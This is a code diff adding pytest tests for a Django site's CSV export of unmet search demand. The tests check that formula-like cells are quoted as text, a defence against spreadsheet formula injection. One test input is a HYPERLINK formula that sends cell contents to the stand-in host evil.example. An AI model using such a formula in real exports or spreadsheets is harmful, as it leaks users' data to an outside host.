@@ -1,6 +1,8 @@
 """The authority's report of searches that found nothing or little."""
 
+import csv
 import datetime
+import io
 
 import pytest
 from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
@@ -62,3 +64,41 @@ def test_only_those_allowed_see_the_report(client):
     sign_in_with_totp(client, editor, secret)
 
     assert client.get(reverse("search_unmet_demand")).status_code in {302, 403}
+
+
+@pytest.mark.usefixtures("search_indices")
+def test_a_formula_typed_into_search_is_exported_as_text_not_run_by_a_spreadsheet(client, moderator_client):
+    from django.test import Client
+
+    resident = Client()
+    formula = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the full report")'
+    resident.get("/search/", {"q": formula})
+    resident.get("/search/", {"q": "+44 robotics"})
+    resident.get("/search/", {"q": "@SUM(1+1)"})
+
+    export = moderator_client.get(reverse("search_unmet_demand"), {"format": "csv", "since": "2000-01-01", "until": "2100-01-01"})
+
+    rows = list(csv.reader(io.StringIO(export.content.decode())))[1:]
+    words = sorted(row[0] for row in rows)
+    assert words == ["'+44 robotics", "'=hyperlink(\"http://evil.example/steal?d=\"&a1,\"click for the full report\")", "'@sum(1+1)"]
+
+
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tA1", "'\tA1"),
+        ("\rA1", "'\rA1"),
+        ("robotics", "robotics"),
+        ("", ""),
+        (3, 3),
+        (-2.5, -2.5),
+    ],
+)
+def test_spreadsheet_cells_that_could_be_formulas_are_quoted(value, written):
+    from skills_site.spreadsheets import safe_cell
+
+    assert safe_cell(value) == written
